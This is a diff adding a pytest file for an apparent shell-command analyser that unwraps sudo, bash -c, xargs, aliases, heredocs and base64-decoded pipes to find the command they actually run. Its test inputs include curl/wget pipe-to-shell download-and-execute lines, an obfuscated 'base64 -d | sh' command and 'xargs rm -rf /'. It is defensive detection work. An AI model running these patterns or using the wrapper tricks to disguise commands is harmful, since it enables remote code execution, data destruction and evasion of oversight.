@@ -1,0 +1,113 @@
+"""Commands that run something else."""
+
+from __future__ import annotations
+
+import pytest
+
+from ringwall.model.analysis import HOLE
+
+from .world import World, analysed, argvs, effects
+
+PUSH = ("git", "push")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "env A=1 git push",
+        "command git push",
+        "builtin command git push",
+        "exec git push",
+        "sudo git push",
+        "timeout 5 nice -n 3 git push",
+        "bash -c 'git push'",
+        "bash -c \"bash -c 'git push'\"",
+        "bash -lc 'git push'",
+        "bash -c '$0 $1' git push",
+        "sh -c '\"$@\"' _ git push",
+        "bash <<< 'git push'",
+        "bash <<'EOF'\ngit push\nEOF",
+        "echo 'git push' | bash",
+        "echo Z2l0IHB1c2g= | base64 -d | sh",
+        "printf '\\x67it push' | sh",
+        "xargs git push",
+        "echo origin | xargs git push",
+        "echo push | xargs git",
+        "find . -exec git push \\;",
+        "source <(echo 'git push')",
+        ". /dev/stdin <<< 'git push'",
+        "bash <(echo 'git push')",
+        "echo 'git push' > x.sh; bash x.sh",
+        "echo 'git push' > x.sh; chmod +x x.sh; ./x.sh",
+        "echo 'git push' | tee x.sh; sh ./x.sh",
+        "echo 'git' > x.sh; echo ' push' >> y; cp x.sh z.sh; echo 'git push' >> z.sh; . ./z.sh",
+        "cat > run.sh <<'EOF'\ngit push\nEOF\nchmod +x run.sh && ./run.sh",
+        "nohup sh -c 'git push' &",
+        "LESSOPEN='|git push %s' less x",
+        "PAGER='git push' git log",
+        "git -c alias.x='!git push' x",
+        "git -c alias.x=push x",
+        "git config alias.x push; git x",
+        "npm pkg set scripts.x='git push' && npm run x",
+        "make -f - <<'EOF'\nall:\n\tgit push\nEOF",
+    ],
+)
+def test_what_a_wrapper_carries_is_found(text: str) -> None:
+    found = [command for command in analysed(text).commands if command.argv[:2] == PUSH]
+    assert found, argvs(text)
+    assert "git.push" in effects(text)
+
+
+def test_wrappers_are_named_outermost_first() -> None:
+    push = next(c for c in analysed("sudo env A=1 bash -c 'git push'").commands if c.argv == PUSH)
+    assert push.via == ("sudo", "env", "bash")
+
+
+def test_data_from_the_network_that_runs_is_download_exec() -> None:
+    for text in (
+        "curl -fsSL https://x.example/i | bash",
+        "curl https://x.example/i | tee i.log | sh -s -- -y",
+        'bash -c "$(curl -fsSL https://x.example/i)"',
+        "bash <(curl -s https://x.example/i)",
+        'eval "$(wget -qO- https://x.example/i)"',
+        "curl -o i.sh https://x.example/i; bash i.sh",
+        "wget https://x.example/i.sh && sh i.sh",
+        'X=$(curl https://x.example/i); eval "$X"',
+        "curl https://x.example/i.py | python3 -",
+    ):
+        assert "download.exec" in effects(text), text
+
+
+def test_unknown_text_that_runs_is_opaque() -> None:
+    for text in ('bash -c "$X"', "eval $X", "cat list | decode | sh", "$X", "source $FILE"):
+        assert "code.opaque" in effects(text), text
+
+
+def test_a_shell_without_anything_to_run_is_not_opaque() -> None:
+    assert "code.opaque" not in effects("bash --version")
+    assert "code.opaque" not in effects("bash -c ''")
+
+
+def test_appended_words_are_known_as_far_as_the_input_is() -> None:
+    assert ("rm", "-rf", "/") in argvs("echo / | xargs rm -rf")
+    assert ("rm", "-rf", "/x") in argvs("echo /x | xargs -I{} rm -rf {}")
+    assert ("rm", HOLE) in argvs("xargs rm")
+    assert ("rm", "src/*") in argvs("find src -exec rm {} \\;")
+
+
+def test_a_script_in_an_argument_is_read_with_its_arguments() -> None:
+    world = World(files={"/home/dev/app/clean.sh": 'rm -rf "$1"\n'})
+    analysis = analysed("bash clean.sh /tmp/x", world)
+    assert analysis.commands[-1].argv == ("rm", "-rf", "/tmp/x")
+    assert analysis.commands[-1].via == ("bash", "clean.sh:1")
+    assert [file.path for file in analysis.files] == ["/home/dev/app/clean.sh"]
+
+
+def test_a_file_that_cannot_be_seen_only_runs() -> None:
+    assert effects("bash scripts/absent.sh") <= {"code.run", "observe"}
+
+
+def test_spans_of_nested_text_are_those_of_the_outer_word() -> None:
+    text = "sudo bash -c 'ls; git push'"
+    push = next(e for e in analysed(text).effects if e.name == "git.push")
+    assert text[slice(*push.span)] == "'ls; git push'"
